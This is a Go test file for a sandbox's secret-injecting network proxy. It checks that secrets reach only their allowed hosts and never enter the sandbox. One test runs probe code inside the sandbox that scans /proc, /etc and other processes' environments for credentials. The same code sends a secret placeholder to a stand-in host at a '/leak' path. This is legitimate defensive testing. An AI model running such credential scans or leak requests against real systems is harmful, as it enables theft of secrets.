//go:build linux

package native_test

import (
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os/exec"
	"strings"
	"sync"
	"testing"

	"github.com/codecell-dev/codecell"
	"github.com/codecell-dev/codecell/internal/egress"
	"github.com/codecell-dev/codecell/internal/testenv"
	"github.com/codecell-dev/codecell/tier/native"
)

// The values of the secrets in secretFixture's configuration.
const (
	apiValue = "sk-live-3f9a6c0e-not-in-the-sandbox"
	tokValue = "tok-7d1b52aa-not-in-the-sandbox"
)

// secretFixture is an HTTPS server on the host's loopback, its
// certificates from a test authority the tier's proxy trusts, and a plain
// HTTP one, both recording what they get; an engine whose configuration
// allows api.test and other.test on both, with two secrets for api.test:
// "api" (an Authorization header) and "tok" (in place of its
// placeholder).
type secretFixture struct {
	e          *codecell.Engine
	tls, plain int
	testCA     *egress.Authority
	mu         sync.Mutex
	got        []string // "host|authorization|x-token"
}

func newSecretFixture(t *testing.T) *secretFixture {
	testenv.RequireNative(t, native.Default.Probe)
	f := &secretFixture{}
	var err error
	if f.testCA, err = egress.NewAuthority(); err != nil {
		t.Fatal(err)
	}
	record := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		f.mu.Lock()
		f.got = append(f.got, r.Host+"|"+r.Header.Get("Authorization")+"|"+r.Header.Get("X-Token"))
		f.mu.Unlock()
		fmt.Fprintf(w, "hello %s", r.Host)
	})
	secure := httptest.NewUnstartedServer(record)
	secure.TLS = &tls.Config{GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return f.testCA.Certificate(h.ServerName) }}
	secure.StartTLS()
	t.Cleanup(secure.Close)
	plain := httptest.NewServer(record)
	t.Cleanup(plain.Close)
	f.tls, f.plain = secure.Listener.Addr().(*net.TCPAddr).Port, plain.Listener.Addr().(*net.TCPAddr).Port
	roots := x509.NewCertPool()
	roots.AddCert(f.testCA.Root())
	tier := &native.Tier{Pool: -1, RootCAs: roots, Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
		if host == "api.test" || host == "other.test" {
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		}
		return nil, fmt.Errorf("no such host %s", host)
	}}
	t.Cleanup(func() { tier.Close() })
	t.Setenv("CODECELL_TEST_API_VALUE", apiValue)
	t.Setenv("CODECELL_TEST_TOK_VALUE", tokValue)
	var allow []string
	for _, port := range []int{f.tls, f.plain} {
		allow = append(allow, fmt.Sprintf("api.test:%d", port), fmt.Sprintf("other.test:%d", port))
	}
	f.e = &codecell.Engine{Tier: native.Name, Tiers: []codecell.Tier{tier}, Policy: codecell.Policy{Network: &codecell.NetworkPolicy{
		Allow: append(allow, "127.0.0.0/8"),
		Secrets: []codecell.Secret{
			{Name: "api", Env: "CODECELL_TEST_API_VALUE", Hosts: []string{fmt.Sprintf("api.test:%d", f.tls), fmt.Sprintf("api.test:%d", f.plain)},
				Header: "Authorization: Bearer {value}", SandboxEnv: "API_KEY"},
			{Name: "tok", Env: "CODECELL_TEST_TOK_VALUE", Hosts: []string{fmt.Sprintf("api.test:%d", f.tls)}},
		},
	}}}
	return f
}

func (f *secretFixture) run(t *testing.T, lang, code string) *codecell.Result {
	t.Helper()
	res, err := f.e.Run(context.Background(), &codecell.Exec{Language: lang, Code: code,
		Env: map[string]string{"TLS_PORT": fmt.Sprint(f.tls), "PLAIN_PORT": fmt.Sprint(f.plain)}})
	if err != nil {
		t.Fatal(err)
	}
	for _, out := range []string{res.Stdout, res.Stderr, string(res.Value)} {
		if strings.Contains(out, apiValue) || strings.Contains(out, tokValue) {
			t.Errorf("a value came out of the sandbox: %q", out)
		}
	}
	return res
}

func (f *secretFixture) received() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	out := f.got
	f.got = nil
	return out
}

// Python's urllib, Node's fetch and curl reach api.test over HTTPS with the
// sandbox's placeholders: the server gets the values (the header secret,
// and the other in place of its placeholder); the program sees the proxy's
// certificate, and the Result says what applied.
func TestNetworkSecretsReachTheirHost(t *testing.T) {
	f := newSecretFixture(t)
	want := fmt.Sprintf("[api.test:%d|Bearer %s|t=%s]", f.tls, apiValue, tokValue)
	res := f.run(t, "python", `import os, urllib.request
req = urllib.request.Request(f"https://api.test:{os.environ['TLS_PORT']}/py", headers={"X-Token": "t=" + os.environ["CODECELL_SECRET_TOK"]})
urllib.request.urlopen(req, timeout=20).read().decode()`)
	if res.Status != codecell.StatusSuccess || string(res.Value) != fmt.Sprintf(`"hello api.test:%d"`, f.tls) {
		t.Fatalf("python: %s %s %+v %q", res.Status, res.Value, res.Error, res.Stderr)
	}
	if got := fmt.Sprint(f.received()); got != want {
		t.Errorf("python: the server got %s, want %s", got, want)
	}
	if len(res.Network) != 1 || !res.Network[0].Allowed || fmt.Sprint(res.Network[0].Secrets) != "[api tok]" || !strings.Contains(res.Isolation.Network, "secrets api, tok") {
		t.Errorf("network %+v; isolation %q", res.Network, res.Isolation.Network)
	}
	// The Result names the secrets, not where codecell reads their values.
	if b, _ := json.Marshal(res); strings.Contains(string(b), "CODECELL_TEST_API_VALUE") || !strings.Contains(string(b), `"name":"api"`) {
		t.Errorf("the Result shows a secret's source, or no secret: %s", b)
	}

	res = f.run(t, "javascript", "const r = await fetch(`https://api.test:${process.env.TLS_PORT}/js`, {headers: {'X-Token': 't=' + process.env.CODECELL_SECRET_TOK}})\nawait r.text()")
	if res.Status != codecell.StatusSuccess || string(res.Value) != fmt.Sprintf(`"hello api.test:%d"`, f.tls) {
		t.Fatalf("node: %s %s %+v %q", res.Status, res.Value, res.Error, res.Stderr)
	}
	if got := fmt.Sprint(f.received()); got != want {
		t.Errorf("node: the server got %s, want %s", got, want)
	}

	if _, err := exec.LookPath("curl"); err != nil {
		t.Log("curl is not installed: its case is not run")
	} else {
		res = f.run(t, "bash", `curl -sS --max-time 20 -H "X-Token: t=$CODECELL_SECRET_TOK" "https://api.test:$TLS_PORT/sh"`)
		if res.Status != codecell.StatusSuccess || res.Stdout != fmt.Sprintf("hello api.test:%d", f.tls) {
			t.Fatalf("curl: %s %q %+v %q", res.Status, res.Stdout, res.Error, res.Stderr)
		}
		if got := fmt.Sprint(f.received()); got != want {
			t.Errorf("curl: the server got %s, want %s", got, want)
		}
	}

	// Plain HTTP to api.test: the header secret too.
	res = f.run(t, "python", `import os, urllib.request
urllib.request.urlopen(f"http://api.test:{os.environ['PLAIN_PORT']}/plain", timeout=20).read().decode()`)
	if got := fmt.Sprint(f.received()); res.Status != codecell.StatusSuccess || got != fmt.Sprintf("[api.test:%d|Bearer %s|]", f.plain, apiValue) {
		t.Errorf("plain: %s %+v %q; the server got %s", res.Status, res.Error, res.Stderr, got)
	}
}

// The program never holds a value: not in its environment, nor
// /proc/self/environ, nor any file or process it can read; the placeholder
// sent to another host over plain HTTP is refused and reported, over HTTPS
// (which the proxy does not open) it reaches that host as a placeholder;
// and a host without secrets is not intercepted: the program sees the
// server's own certificate.
func TestNetworkSecretsStayOnTheHost(t *testing.T) {
	f := newSecretFixture(t)
	otherLeaf, err := f.testCA.Certificate("other.test")
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(otherLeaf.Certificate[0])
	code := `import os, ssl, socket, hashlib, urllib.request
tls, plain = int(os.environ["TLS_PORT"]), int(os.environ["PLAIN_PORT"])
ph = os.environ["CODECELL_SECRET_API"]
out = {"placeholder": ph.startswith("codecell-secret:api:") and os.environ["API_KEY"] == ph,
       "ca": os.environ.get("SSL_CERT_FILE"), "found": []}
needles = [bytes.fromhex(h).decode() for h in os.environ["NEEDLES"].split(",")]
def look(path, data):
    for n in needles:
        if n.encode() in data:
            out["found"].append(path)
look("environ", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
for root in ["/proc/self", "/etc", "/tmp", "/workspace", "/run", "/dev/shm", "/var"]:
    for d, dirs, files in os.walk(root):
        if d.startswith("/proc/self/") and d.count("/") > 3:
            dirs[:] = []
        for name in files:
            p = os.path.join(d, name)
            try:
                with open(p, "rb") as fh:
                    look(p, fh.read(4 << 20))
            except OSError:
                pass
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for what in ("environ", "cmdline"):
            try:
                look(f"/proc/{pid}/{what}", open(f"/proc/{pid}/{what}", "rb").read())
            except OSError:
                pass
def attempt(name, fn):
    try:
        out[name] = "reached: " + fn()
    except Exception as e:
        out[name] = "refused: " + type(e).__name__
def get(url, **kw):
    req = urllib.request.Request(url, headers={"Authorization": "Bearer " + ph})
    return urllib.request.urlopen(req, timeout=20, **kw).read().decode()
attempt("plain other", lambda: get(f"http://other.test:{plain}/leak"))
ctx = ssl.create_default_context()
ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
attempt("https other", lambda: get(f"https://other.test:{tls}/leak", context=ctx))
def peer(name):
    with socket.create_connection((name, tls), timeout=20) as s:
        with ctx.wrap_socket(s, server_hostname=name) as t:
            return hashlib.sha256(t.getpeercert(binary_form=True)).hexdigest()
out["other cert"] = peer("other.test")
out["api cert"] = peer("api.test")
out`
	res, err := f.e.Run(context.Background(), &codecell.Exec{Language: "python", Code: code,
		// The values to look for, in hex: the sandbox does not hold them
		// as they are.
		Env: map[string]string{"TLS_PORT": fmt.Sprint(f.tls), "PLAIN_PORT": fmt.Sprint(f.plain),
			"NEEDLES": hex.EncodeToString([]byte(apiValue)) + "," + hex.EncodeToString([]byte(tokValue))}})
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != codecell.StatusSuccess {
		t.Fatalf("%s %+v %q", res.Status, res.Error, res.Stderr)
	}
	var out struct {
		Placeholder bool     `json:"placeholder"`
		CA          string   `json:"ca"`
		Found       []string `json:"found"`
		PlainOther  string   `json:"plain other"`
		HTTPSOther  string   `json:"https other"`
		OtherCert   string   `json:"other cert"`
		APICert     string   `json:"api cert"`
	}
	if err := json.Unmarshal(res.Value, &out); err != nil {
		t.Fatalf("%v: %s", err, res.Value)
	}
	if !out.Placeholder || out.CA != "/etc/codecell-ca-bundle.pem" || len(out.Found) != 0 {
		t.Errorf("inside the sandbox: %s", res.Value)
	}
	if !strings.HasPrefix(out.PlainOther, "refused") || !strings.HasPrefix(out.HTTPSOther, "reached") {
		t.Errorf("to other.test: %s", res.Value)
	}
	if out.OtherCert != hex.EncodeToString(sum[:]) {
		t.Errorf("other.test was intercepted: the program saw the certificate %s, the server's is %x", out.OtherCert, sum)
	}
	if out.APICert == "" || out.APICert == out.OtherCert {
		t.Errorf("api.test was not intercepted: %s", res.Value)
	}
	got := f.received()
	if len(got) != 1 || !strings.HasPrefix(got[0], fmt.Sprintf("other.test:%d|Bearer codecell-secret:api:", f.tls)) {
		t.Errorf("the servers got %q", got)
	}
	refused := false
	for _, c := range res.Network {
		if !c.Allowed && strings.Contains(c.Reason, "secret api was sent to other.test") {
			refused = true
		}
	}
	if !refused {
		t.Errorf("the placeholder sent to other.test is not listed as refused: %+v", res.Network)
	}
}

// A run whose policy does not reach a secret's host gets neither its
// placeholder nor the CA bundle: an execution that narrows the policy to
// other.test sees a plain environment, and other.test's own certificate.
func TestNetworkSecretsOnlyWhereReached(t *testing.T) {
	f := newSecretFixture(t)
	res, err := f.e.Run(context.Background(), &codecell.Exec{Language: "python",
		Code: `import os
sorted(k for k in os.environ if k.startswith("CODECELL_SECRET") or k in ("API_KEY", "SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS")) + [os.path.exists("/etc/codecell-ca-bundle.pem"), os.path.exists("/etc/codecell-ca.pem")]`,
		Policy: codecell.Policy{Network: &codecell.NetworkPolicy{Allow: []string{fmt.Sprintf("other.test:%d", f.tls)}}}})
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != codecell.StatusSuccess || string(res.Value) != "[false,false]" || strings.Contains(res.Isolation.Network, "secrets") {
		t.Fatalf("%s %s %+v %q; isolation %q", res.Status, res.Value, res.Error, res.Stderr, res.Isolation.Network)
	}
	// Narrowed to api.test on the plain port: the header secret only.
	res, err = f.e.Run(context.Background(), &codecell.Exec{Language: "python",
		Code:   `import os; sorted(k for k in os.environ if k.startswith("CODECELL_SECRET") or k == "API_KEY")`,
		Policy: codecell.Policy{Network: &codecell.NetworkPolicy{Allow: []string{fmt.Sprintf("api.test:%d", f.plain)}}}})
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != codecell.StatusSuccess || string(res.Value) != `["API_KEY","CODECELL_SECRET_API"]` {
		t.Fatalf("%s %s %+v %q", res.Status, res.Value, res.Error, res.Stderr)
	}
}
